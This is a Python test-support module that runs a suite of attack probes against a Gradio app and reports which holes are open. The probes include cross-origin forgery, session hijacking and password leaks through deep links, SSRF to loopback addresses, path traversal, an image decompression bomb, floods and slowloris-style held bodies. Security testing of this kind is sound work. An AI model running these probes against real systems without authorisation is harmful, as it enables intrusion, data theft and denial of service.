"""Attacks on a Gradio app over HTTP: each is tried at an address, and tells whether the hole is open and what was seen.

`python -m tests.support.probes ADDRESS [PID]` runs all of them and prints a line each.
"""

import asyncio
import io
import json
import secrets
import socket
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NamedTuple

import httpx
import psutil
from PIL import Image

HOST = "arena.example"
EVIL = "https://evil.example"
CLOSED = (400, 403, 404, 405, 413, 429)
BOMB_SIDE = 9_000
"""Pixels on a side of a picture of one bit a pixel: 10 kB that unpack to a quarter of a gigabyte."""

PATIENCE = 25
"""Seconds after which an app no longer waits for the rest of a small body."""
HELD_BYTES = 15_000_000


class Seen(NamedTuple):
    """What a probe found."""

    open: bool
    what: str


@dataclass
class Target:
    """An app to be probed."""

    address: str
    files: tuple[Path, ...] = ()
    """Files that nobody may read over the network; each holds `canary`."""
    canary: bytes = b"canary"
    pid: int | None = None
    """Its process; None leaves out the probes that look at memory."""
    sessions: int = 1_000
    events: dict[str, Mapping[str, Any]] = field(default_factory=dict)
    components: dict[int, Mapping[str, Any]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        config = httpx.get(f"{self.address}/config", timeout=60).json()
        self.components = {part["id"]: part for part in config["components"]}
        self.events = {
            str(event["api_name"]): event for event in config["dependencies"] if event["backend_fn"]
        }

    @contextmanager
    def client(self) -> Iterator[httpx.Client]:
        """A visitor with cookies of its own."""
        with httpx.Client(
            base_url=self.address, timeout=60, headers={"connection": "close"}
        ) as visitor:
            visitor.get("/")
            yield visitor

    def call(
        self, visitor: httpx.Client, event: Mapping[str, Any], data: list[Any], session: str
    ) -> httpx.Response:
        """Call an event as the page would."""
        body = {"data": data, "fn_index": event["id"], "session_hash": session}
        return visitor.post("/gradio_api/run/predict", json=body)

    def inputs(self, event: Mapping[str, Any], value: Any, kind: str | None = None) -> list[Any]:
        """Return an event's inputs: a value in every box, or in the boxes of one kind and nothing in the others."""
        kinds = [self.components[part]["type"] for part in event["inputs"]]
        return [None if one == "state" or kind not in (None, one) else value for one in kinds]

    def memory(self) -> int:
        """Return the bytes that the process and its children hold."""
        process = psutil.Process(self.pid)
        return sum(one.memory_info().rss for one in (process, *process.children(recursive=True)))


Probe = Callable[[Target], Seen]
PROBES: dict[str, Probe] = {}


def probe(tried: Probe) -> Probe:
    """Put a probe on the list."""
    PROBES[tried.__name__.replace("_", " ")] = tried
    return tried


def reached(target: Target, method: str, path: str, **more: Any) -> Seen:
    """Tell whether a route does its work for anybody."""
    with target.client() as visitor:
        answer = visitor.request(method, path, **more)
    return Seen(
        answer.status_code not in CLOSED, f"{method} {path.split('?')[0]}: {answer.status_code}"
    )


@probe
def foreign_origin(target: Target) -> Seen:
    return _from_origin(target, EVIL)


@probe
def null_origin(target: Target) -> Seen:
    return _from_origin(target, "null")


def _from_origin(target: Target, origin: str) -> Seen:
    """A page elsewhere posts with its visitors' cookies."""
    with target.client() as visitor:
        event = next(iter(target.events.values()))
        body = {"data": target.inputs(event, ""), "fn_index": event["id"], "session_hash": "x"}
        headers = {"origin": origin, "host": HOST}
        answer = visitor.post("/gradio_api/run/predict", json=body, headers=headers)
    return Seen(answer.status_code != 403, f"a post from {origin}: {answer.status_code}")


@probe
def foreign_reader(target: Target) -> Seen:
    """A page elsewhere may read the answers, with its visitors' cookies."""
    with target.client() as visitor:
        headers = {"origin": EVIL, "host": HOST, "access-control-request-method": "POST"}
        answers = [
            visitor.get("/config", headers=headers),
            visitor.options("/gradio_api/run/predict", headers=headers),
        ]
    allowed = {answer.headers.get("access-control-allow-origin") for answer in answers}
    return Seen(bool(allowed & {EVIL, "*"}), f"allowed origins: {allowed}")


@probe
def key_by_deep_link(target: Target) -> Seen:
    """What a visitor types into a password box is read back by whoever knows the session."""
    session, key = secrets.token_hex(8), "sk-" + secrets.token_hex(16)
    with target.client() as victim:
        for event in target.events.values():
            kinds = [target.components[part] for part in event["inputs"]]
            data = [key if one["props"].get("type") == "password" else None for one in kinds]
            if key in data:
                target.call(victim, event, data, session)
    with target.client() as attacker:
        link = attacker.get("/gradio_api/deep_link", params={"session_hash": session})
        told = attacker.get("/config", params={"deep_link": link.text.strip('"')}).text
    return Seen(key in told, f"a link to the session: {link.status_code}")


@probe
def state_of_another_session(target: Target) -> Seen:
    """The name of a session is enough to act in it."""
    session, mark = secrets.token_hex(8), secrets.token_hex(8)
    with target.client() as victim, target.client() as attacker:
        for event in target.events.values():
            target.call(victim, event, target.inputs(event, mark, "textbox"), session)
        blind = [
            event for event in target.events.values() if "textbox" not in _kinds(target, event)
        ]
        told = [
            target.call(attacker, event, target.inputs(event, None), session).text
            for event in blind
        ]
    return Seen(
        any(mark in text for text in told), f"{len(told)} events called in a visitor's session"
    )


@probe
def results_of_another_session(target: Target) -> Seen:
    """The name of a session is enough to read what comes of its events."""
    session, mark = secrets.token_hex(8), secrets.token_hex(8)
    event = next(event for event in target.events.values() if "textbox" in _kinds(target, event))
    with target.client() as victim, target.client() as attacker:
        body = {
            "data": target.inputs(event, mark, "textbox"),
            "fn_index": event["id"],
            "session_hash": session,
        }
        joined = victim.post("/gradio_api/queue/join", json=body)
        if joined.status_code in CLOSED:
            return Seen(False, f"the queue: {joined.status_code}")
        with attacker.stream(
            "GET", "/gradio_api/queue/data", params={"session_hash": session}
        ) as answer:
            for line in answer.iter_lines():
                if "process_completed" in line or "unexpected_error" in line:
                    return Seen(answer.status_code == 200, f"another visitor's stream: {line[:60]}")
    return Seen(False, "nothing came")


def _kinds(target: Target, event: Mapping[str, Any]) -> list[str]:
    return [target.components[part]["type"] for part in event["inputs"]]


@probe
def full_queue(target: Target) -> Seen:
    """The queue takes whatever one visitor puts there."""
    with target.client() as visitor:
        event = next(iter(target.events.values()))
        body = {"data": target.inputs(event, None), "fn_index": event["id"]}
        codes = [
            visitor.post(
                "/gradio_api/queue/join", json={**body, "session_hash": f"q{number}"}
            ).status_code
            for number in range(100)
        ]
    return Seen(codes.count(200) == len(codes), f"of 100 events {codes.count(200)} were taken")


@probe
def cancel_of_another_session(target: Target) -> Seen:
    body = {"session_hash": "victim", "fn_index": 0, "event_id": "x"}
    return reached(target, "POST", "/gradio_api/cancel", json=body)


@probe
def end_of_another_session(target: Target) -> Seen:
    """Opening and closing a session's line marks its state for deletion."""
    with (
        target.client() as visitor,
        visitor.stream("GET", "/gradio_api/heartbeat/victim") as answer,
    ):
        return Seen(answer.status_code == 200, f"a line in a visitor's name: {answer.status_code}")


@probe
def upload_by_anybody(target: Target) -> Seen:
    return reached(
        target, "POST", "/gradio_api/upload", files={"files": ("x.html", b"<script>1</script>")}
    )


@probe
def many_files(target: Target) -> Seen:
    files = [("files", (f"{number}.txt", b"x" * 1000)) for number in range(900)]
    return reached(target, "POST", "/gradio_api/upload", files=files)


@probe
def large_upload(target: Target) -> Seen:
    """Forty megabytes, in pieces whose number is not announced."""

    def pieces() -> Iterator[bytes]:
        yield b'--b\r\nContent-Disposition: form-data; name="files"; filename="x"\r\n\r\n'
        for _ in range(40):
            yield b"x" * 1_000_000
        yield b"\r\n--b--\r\n"

    headers = {"content-type": "multipart/form-data; boundary=b"}
    try:
        return reached(target, "POST", "/gradio_api/upload", content=pieces(), headers=headers)
    except httpx.TransportError as error:
        return Seen(False, f"the line was cut: {type(error).__name__}")


@probe
def large_call(target: Target) -> Seen:
    """Five megabytes of JSON, announced or not."""
    event = next(iter(target.events.values()))
    body = {
        "data": target.inputs(event, None),
        "fn_index": event["id"],
        "session_hash": "x",
        "event_data": "x" * 5_000_000,
    }
    content = json.dumps(body).encode()
    pieces = (content[start : start + 100_000] for start in range(0, len(content), 100_000))
    headers = {"content-type": "application/json"}
    codes = []
    with target.client() as visitor:
        for sent in (content, pieces):
            try:
                codes.append(
                    visitor.post(
                        "/gradio_api/run/predict", content=sent, headers=headers
                    ).status_code
                )
            except httpx.TransportError:
                codes.append(413)  # refused before all of it was sent
    return Seen(set(codes) != {413}, f"5 MB: {codes}")


@probe
def recording(target: Target) -> Seen:
    """Anybody has ffmpeg run on a file."""
    with target.client() as visitor:
        answer = visitor.post("/gradio_api/process_recording", files={"file": ("x.webm", b"x")})
    return Seen(
        answer.status_code not in (403, 404, 405), f"POST process_recording: {answer.status_code}"
    )


@probe
def component_server(target: Target) -> Seen:
    body = {"session_hash": secrets.token_hex(8), "component_id": 1, "fn_name": "x", "data": ""}
    with target.client() as visitor:
        answer = visitor.post("/gradio_api/component_server", json=body)
    return Seen(
        answer.status_code not in (403, 405), f"POST component_server: {answer.status_code}"
    )


@probe
def history_of_runs(target: Target) -> Seen:
    return reached(target, "GET", "/gradio_api/runs")


@probe
def monitoring(target: Target) -> Seen:
    return reached(target, "GET", "/monitoring/summary")


@probe
def description_of_private_events(target: Target) -> Seen:
    return reached(target, "GET", "/gradio_api/info?all_endpoints=true")


@probe
def call_past_the_page(target: Target) -> Seen:
    """Events that are private are called by their name."""
    event = next(iter(target.events))
    return reached(
        target,
        "POST",
        f"/gradio_api/call/{event}",
        json={"data": target.inputs(target.events[event], None)},
    )


@probe
def icon_of_any_size(target: Target) -> Seen:
    return reached(target, "GET", "/pwa_icon/2000")


@probe
def fetching_for_others(target: Target) -> Seen:
    """The server fetches an address inside its own network."""
    with socket.create_server(("127.0.0.1", 0)) as trap, target.client() as visitor:
        trap.settimeout(0.3)
        port = trap.getsockname()[1]
        codes = [
            visitor.get(f"/gradio_api/{door}http://{host}:{port}/x").status_code
            for door in ("file=", "proxy=")
            for host in ("127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "0x7f000001", "127.1")
        ]
        try:
            trap.accept()
        except TimeoutError:
            return Seen(False, f"no call came: {sorted(set(codes))}")
    return Seen(True, "the server called")


@probe
def files_by_their_path(target: Target) -> Seen:
    with target.client() as visitor:
        for path in target.files:
            for route in (
                "/gradio_api/file=",
                "/gradio_api/file/",
                "/file=",
                "/static/",
                "/static/..",
                "/assets/../..",
            ):
                for spelt in (
                    str(path),
                    path.name,
                    f"../../../../..{path}",
                    str(path).replace("/", "%2f"),
                ):
                    if target.canary in visitor.get(route + spelt).content:
                        return Seen(True, f"{path} under {route}")
    return Seen(False, f"{len(target.files)} files asked for")


@probe
def files_named_in_a_value(target: Target) -> Seen:
    """A value that calls itself a file is copied into the public cache."""
    with target.client() as visitor:
        for path in target.files:
            file = {"path": str(path), "meta": {"_type": "gradio.FileData"}}
            for value in (file, [file], {"x": [file]}, json.dumps(file), json.dumps([file])):
                for event in target.events.values():
                    answer = target.call(visitor, event, target.inputs(event, value), "x")
                    for served in _served(answer.text):
                        if target.canary in visitor.get(f"/gradio_api/file={served}").content:
                            return Seen(True, f"{path} through {event['api_name']}")
    return Seen(False, f"{len(target.events)} events called")


def _served(text: str) -> list[str]:
    """Return the paths that an answer names."""
    return [
        part
        for part in text.replace("\\", "").split('"')
        if part.startswith("/") and len(part) < 500
    ]


@probe
def security_headers(target: Target) -> Seen:
    with target.client() as visitor:
        headers = visitor.get("/").headers
    wanted = ("content-security-policy", "x-content-type-options", "referrer-policy")
    missing = [name for name in wanted if name not in headers]
    return Seen(bool(missing), f"missing: {missing}")


@probe
def flood(target: Target) -> Seen:
    """One visitor may call as often as it can: on a busy machine too, more often than anybody may."""
    with target.client() as visitor:
        for number in range(2_000):
            answer = visitor.post("/gradio_api/reset", json={"event_id": "x"})
            if answer.status_code == 429:
                return Seen(False, f"refused after {number} calls")
    return Seen(True, f"2,000 calls; the last: {answer.status_code}")


@probe
def image_bomb(target: Target) -> Seen:
    """A small picture takes hundreds of megabytes."""
    if target.pid is None:
        return Seen(False, "no process to look at")
    bomb = io.BytesIO()
    Image.new("1", (BOMB_SIDE, BOMB_SIDE)).save(bomb, "PNG")
    before = target.memory()
    return asyncio.run(_bombed(target, bomb.getvalue(), before))


async def _bombed(target: Target, bomb: bytes, before: int) -> Seen:
    top, over = before, asyncio.Event()

    async def watch() -> None:
        nonlocal top
        while not over.is_set():
            top = max(top, await asyncio.to_thread(target.memory))
            await asyncio.sleep(0.02)

    watching = asyncio.create_task(watch())
    await asyncio.to_thread(_send_bomb, target, bomb)
    over.set()
    await watching
    return Seen(
        top - before > 200_000_000, f"{len(bomb) / 1000:.0f} kB took {(top - before) / 1e6:.0f} MB"
    )


def _send_bomb(target: Target, bomb: bytes) -> None:
    with target.client() as visitor:
        for path in ("/live/images", "/uploads?name=x.png"):
            visitor.post(path, content=bomb)
        kept = visitor.post("/gradio_api/upload", files={"files": ("x.png", bomb)})
        if kept.status_code != 200:
            return
        file = {"path": kept.json()[0], "meta": {"_type": "gradio.FileData"}}
        for event in target.events.values():
            if "image" in _kinds(target, event):
                target.call(visitor, event, target.inputs(event, file, "image"), "x")


@probe
def invented_sessions(target: Target) -> Seen:
    """Names of sessions that nobody has fill the memory."""
    if target.pid is None:
        return Seen(False, "no process to look at")
    event = min(target.events.values(), key=lambda event: len(event["inputs"]))
    with target.client() as visitor:
        for warm in range(20):
            target.call(visitor, event, target.inputs(event, None), f"warm {warm}")
        before = target.memory()
        for number in range(target.sessions):
            target.call(visitor, event, target.inputs(event, None), f"invented {number}")
        grown = target.memory() - before
    return Seen(
        grown > 6_000 * target.sessions, f"{target.sessions} sessions took {grown / 1e6:.1f} MB"
    )


@probe
def unfinished_body(target: Target) -> Seen:
    """A post whose body never ends is waited for without end."""
    with _unfinished(target, "/gradio_api/run/predict", 100, b"{") as line:
        line.settimeout(PATIENCE)
        try:
            told = line.recv(100)
        except TimeoutError:
            return Seen(True, f"still waited for after {PATIENCE} s")
    return Seen(False, f"after a while: {told[:20]!r}")


@probe
def held_bodies(target: Target) -> Seen:
    """Bodies that come and do not end fill the memory."""
    if target.pid is None:
        return Seen(False, "no process to look at")
    part, held = b"\0" * HELD_BYTES, 40
    before = target.memory()
    with ExitStack() as lines:
        for number in range(held):
            path = ("/live/images", "/gradio_api/run/predict")[number % 2]
            lines.enter_context(_unfinished(target, path, HELD_BYTES + 1, part))
        time.sleep(1)
        grown = target.memory() - before
    return Seen(
        grown > 100_000_000, f"{held} bodies of {HELD_BYTES / 1e6:.0f} MB took {grown / 1e6:.0f} MB"
    )


@contextmanager
def _unfinished(target: Target, path: str, length: int, part: bytes) -> Iterator[socket.socket]:
    """A line on which a post was begun."""
    url = httpx.URL(target.address)
    with socket.create_connection((url.host, url.port or 80), timeout=10) as line:
        cookie = f"stereoscope_voter={secrets.token_urlsafe(24)}"
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\nContent-Type: application/json\r\n"
        with suppress(OSError):  # refused before all of it was sent
            line.sendall(f"{head}Content-Length: {length}\r\n\r\n".encode() + part)
        yield line


def run_all(target: Target) -> dict[str, Seen]:
    """Try every probe and return what was found, by its name."""
    return {name: tried(target) for name, tried in PROBES.items()}


if __name__ == "__main__":
    for name, seen in run_all(
        Target(sys.argv[1], pid=int(sys.argv[2]) if len(sys.argv) > 2 else None)
    ).items():
        print("OPEN  " if seen.open else "closed", name, "-", seen.what)
